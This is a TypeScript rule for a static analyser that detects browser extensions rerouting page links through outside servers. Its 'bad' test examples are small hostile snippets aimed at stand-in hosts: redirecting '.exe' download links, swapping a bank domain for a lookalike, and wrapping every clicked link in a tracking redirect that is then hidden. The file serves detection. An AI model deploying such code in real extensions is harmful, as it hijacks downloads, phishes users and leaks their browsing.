import {
  argOf,
  bindingKind,
  calleeOf,
  callsNamed,
  constant,
  nameOf,
  objectOf,
  Op,
  opOf,
  receiverOf,
  resolve,
  type ScriptFacts,
  variableOf,
  writesOf,
} from '../../facts/javascript/query.ts';
import { BindingKind } from '../../facts/javascript/script.ts';
import { flowsOf } from '../../extension/flowsOf.ts';
import type { Facts } from '../../facts.ts';
import { defineRule, type Hit } from '../../rule.ts';
import { namesOwner } from './namesOwner.ts';
import { patternOf } from '../../extension/patternOf.ts';
import { isStrangers } from './isStrangers.ts';
import { saysItLeads } from './saysItLeads.ts';
import { say } from '../../../texts/say.ts';
import { isAffiliate } from './affiliateLinks.ts';
import { checkScripts, contentExample, type Judged } from './checkScripts.ts';
import { tagOf } from './tagOf.ts';
import { hostOf, leadsOut } from './hostOf.ts';
import { backwardSlice } from '../../program/backwardSlice.ts';
import { runsInPages } from './places.ts';
import { first } from '../../facts/first.ts';

/** The old address goes along as a parameter: `https://go.example/?to=` + address. */
const CARRIES = /^https?:\/\/[^*]+[?&][\w-]+=\*/i;

export const linksLedAway = defineRule({
  id: 'links-led-away',
  title: 'Reroutes links in pages through another server',
  severity: 'medium',
  confidence: 'medium',
  category: 'privacy',
  applies: 'extension',
  cwe: 'CWE-601',
  references: ['https://developer.chrome.com/docs/webstore/program-policies/affiliate-ads'],
  why: 'The server learns every link that is followed and decides where it leads: to the page, to an affiliate link, or elsewhere.',
  remedy: 'Leave links as they are.',
  givesWayTo: ['opens-downloaded-program'],
  cap: { grade: 'D', reason: 'a server decides where links of pages lead', from: 'high' },
  check: checkScripts(function* ({ script, file, facts, hit }) {
    if (!runsInPages(facts, file.path)) return;
    yield* exchanged({ script, facts, hit });
    const byServer = new Set(ledByServer(facts, script));
    for (const write of first(writesOf(script, 'href'), 200)) {
      if (byServer.has(write.pos) && (isOfLink(script, write) || isAnyLink(script, write.object)))
        yield hit(write.value, { severity: 'high', confidence: 'high', message: say('links-led-by-server') });
      const to = patternOf(facts, script, write.value);
      // Partner links are the matter of rules of their own.
      if (
        !CARRIES.test(to) ||
        !leadsOut(to) ||
        hostOf(to) === undefined ||
        isAffiliate(to) ||
        tagOf(script, write.object) !== undefined
      )
        continue;
      if (isOfLink(script, write)) yield hit(write.value, { severity: 'high', evidence: to.slice(0, 160) });
    }
  }),
  examples: {
    bad: [
      contentExample(
        'document.querySelectorAll("a[href$=\'.exe\'], a[download]").forEach((a) => { a.setAttribute("href", "https://get.setup.example/file"); });',
      ),
      contentExample(
        'for (const a of document.links) a.href = a.href.replace("www.bank.test", "bank-test.other.example");',
      ),
      contentExample(
        'fetch("https://maps.x.example/m").then((r) => r.json()).then(({ url }) => document.querySelectorAll("a").forEach((a) => { a.href = url; }));',
      ),
      {
        files: {
          'manifest.json':
            '{"manifest_version": 3, "name": "Example", "version": "1.0", "background": {"service_worker": "b.js"}, "content_scripts": [{"matches": ["<all_urls>"], "js": ["c.js"]}]}',
          'b.js':
            'chrome.alarms.onAlarm.addListener(async () => { const { map } = await (await fetch("https://maps.x.example/m.json")).json(); chrome.storage.local.set({ map }); });',
          'c.js':
            'class Maps { constructor(map) { this.map = map ?? {}; } apply(href) { const u = new URL(href); const rule = Object.entries(this.map).find(([h]) => u.hostname.endsWith(h)); if (!rule) return href; const [, { wrap }] = rule; return wrap.replace("{u}", encodeURIComponent(u.href)); } } chrome.storage.local.get("map").then(({ map }) => { const maps = new Maps(map); document.addEventListener("mousedown", (e) => { const a = e.target.closest("a[href]"); a.href = maps.apply(a.href); }, true); });',
        },
      },
      contentExample(
        'document.addEventListener("mousedown", (e) => { const a = e.target.closest("a[href]"); const old = a.href; a.href = "https://go.x.example/l?to=" + encodeURIComponent(old); setTimeout(() => { a.href = old; }, 800); }, true);',
      ),
      contentExample(
        'document.querySelectorAll("a").forEach((a) => { a.href = "https://r.x.example/?u=" + a.href; });',
      ),
      {
        files: {
          'manifest.json':
            '{"manifest_version": 3, "name": "Example", "version": "1.0", "background": {"service_worker": "b.js"}, "content_scripts": [{"matches": ["<all_urls>"], "js": ["c.js"]}]}',
          'b.js':
            'chrome.alarms.onAlarm.addListener(async () => { const { hops } = await (await fetch("https://hops.x.example/h.json")).json(); chrome.storage.local.set({ hops }); });',
          'c.js':
            'chrome.storage.local.get(["hops"], ({ hops }) => { const led = (link) => { const u = new URL(link.href); const hop = hops.find((h) => u.hostname.includes(h.d)); return hop ? hop.w + encodeURIComponent(u.toString()) : u.toString(); }; document.addEventListener("mousedown", (e) => { const a = e.target.closest("a"); if (a) a.href = led(a); }, true); });',
        },
      },
    ],
    good: [
      contentExample(
        'fetch("https://maps.x.example/m").then((r) => r.json()).then(({ url }) => { const own = document.createElement("div"); own.innerHTML = "<a id=more>More</a>"; document.body.append(own); own.querySelector("a#more").href = url; });',
      ),
      contentExample(
        'const plain = (a) => new URL(a.href).searchParams.get("u"); document.querySelectorAll("a").forEach((a) => { a.href = plain(a); });',
      ),
      contentExample(
        'document.querySelectorAll("a").forEach((a) => { const u = new URL(a.href); if (u.hostname === "l.example") a.href = u.searchParams.get("u"); });',
      ),
      contentExample(
        'const a = document.createElement("a"); a.href = "https://web.archive.org/web?url=" + location.href; a.textContent = "Older versions"; document.body.append(a);',
      ),
      contentExample(
        'document.querySelectorAll("nav .page").forEach((a) => { a.href = "https://docs.tool.example/" + a.dataset.page; });',
      ),
      // The same site in another form.
      contentExample(
        'document.querySelectorAll("a[href*=\'www.forum.example\']").forEach((a) => { a.href = a.href.replace("www.forum.example", "old.forum.example"); });',
      ),
      // It says so.
      {
        files: {
          'manifest.json':
            '{"manifest_version": 3, "name": "Video redirect", "description": "Opens videos at light.example.", "version": "1.0", "content_scripts": [{"matches": ["<all_urls>"], "js": ["c.js"]}]}',
          'c.js':
            'for (const a of document.links) if (a.hostname === "video.example") a.hostname = "player.other.example";',
        },
      },
    ],
  },
});

/** Links of pages that get the address of somebody else, whatever they led to before. */
function* exchanged({ script, facts, hit }: Pick<Judged, 'script' | 'facts' | 'hit'>): Generator<Hit> {
  const writes = [
    ...writesOf(script, 'href', 'host', 'hostname').map(({ object, property, value }) => ({ object, property, value })),
    ...callsNamed(script, 'setAttribute', 'attr')
      .filter(({ args: [name = 0] }) => constant(script, name) === 'href')
      .map((call) => ({ object: receiverOf(script, call), property: 'href', value: call.args[1] ?? 0 })),
  ];
  for (const { object, property, value } of first(writes, 200)) {
    const to =
      property === 'href'
        ? (replacedBy(script, value) ?? patternOf(facts, script, value))
        : `https://${patternOf(facts, script, value)}/`;
    const host = hostOf(to);
    if (host === undefined || !isStrangers(facts, to) || isAffiliate(to)) continue;
    // Where the old address goes along is told by that.
    if (CARRIES.test(to) && isOfLink(script, { object, value })) continue;
    if (tagOf(script, object) !== undefined || !isPickedLink(script, object) || saysItLeads(facts, host)) continue;
    if (namesOwner(script, host)) continue;
    yield hit(value, { severity: 'high', confidence: 'high', evidence: to, message: say('links-exchanged', host) });
  }
}

/** `a.href.replace('bank.example', 'other.example')`: the host that is put in. */
function replacedBy(script: ScriptFacts, value: number): string | undefined {
  const call = resolve(script, value);
  if (opOf(script, call) !== Op.call || nameOf(script, calleeOf(script, call)) !== 'replace') return undefined;
  const by = constant(script, argOf(script, call, 1)) ?? '';
  return /^(?:https?:\/\/)?(?:[\w-]+\.)+[a-z]{2,}(?:\/|$)/.test(by)
    ? by.replace(/^(?:https?:\/\/)?/, 'https://')
    : undefined;
}

/** Links that are picked by where they lead, by their file or by being links at all. */
const PICKS = /(?:^|[\s,>])a\[(?:href|download)|\[href[$*^]?=|^a$|^a\[href\]$/i;

const FINDS = /^(?:querySelector(?:All)?|closest|getElementsByTagName|\$+|jQuery|find)$/;

/** Whether an element is a link of the page that is picked so, or what a click in the page met. */
export const isPickedLink = (script: ScriptFacts, element: number): boolean =>
  [...backwardSlice(script, element)].some(
    (one) =>
      (opOf(script, one) === Op.call &&
        FINDS.test(nameOf(script, calleeOf(script, one))) &&
        PICKS.test(constant(script, argOf(script, one, 0)) ?? '')) ||
      (opOf(script, one) === Op.member && nameOf(script, one) === 'links'),
  );

/** Places of a script where an answer of a server becomes the address of a link. */
const ledByServer = (facts: Facts, script: ScriptFacts): readonly number[] =>
  facts
    .whole(flowsOf)
    .flows.filter(
      ({ source, sink, unit }) =>
        source.kind === 'remote-data' && sink.kind === 'link-address' && unit.script === script,
    )
    .map(({ pos }) => pos);

/** Whether an element is whichever link the page has: `document.querySelectorAll('a')`, `event.target.closest('a[href]')`. */
const isAnyLink = (script: ScriptFacts, element: number): boolean =>
  [...backwardSlice(script, element)].some(
    (one) =>
      (opOf(script, one) === Op.call && /^a(?![\w-]|.*[#.])/i.test(constant(script, argOf(script, one, 0)) ?? '')) ||
      (opOf(script, one) === Op.member && nameOf(script, one) === 'links'),
  );

/** Whether what a link leads to is made of where it led before: it is a link of the page. */
export function isOfLink(script: ScriptFacts, { value, object }: { value: number; object: number }): boolean {
  const made = backwardSlice(script, value);
  const link = variableOf(script, object);
  // `a.href = led(a)`: a function reads the link that it is handed.
  const isHanded = made.has(object) || [...made].some((one) => variableOf(script, one) === link);
  return (
    link !== -1 &&
    [...made].some((one) => {
      if (opOf(script, one) !== Op.member || nameOf(script, one) !== 'href') return false;
      const of = variableOf(script, objectOf(script, one));
      return of === link || (isHanded && of !== -1 && bindingKind(script, of) === BindingKind.param);
    })
  );
}
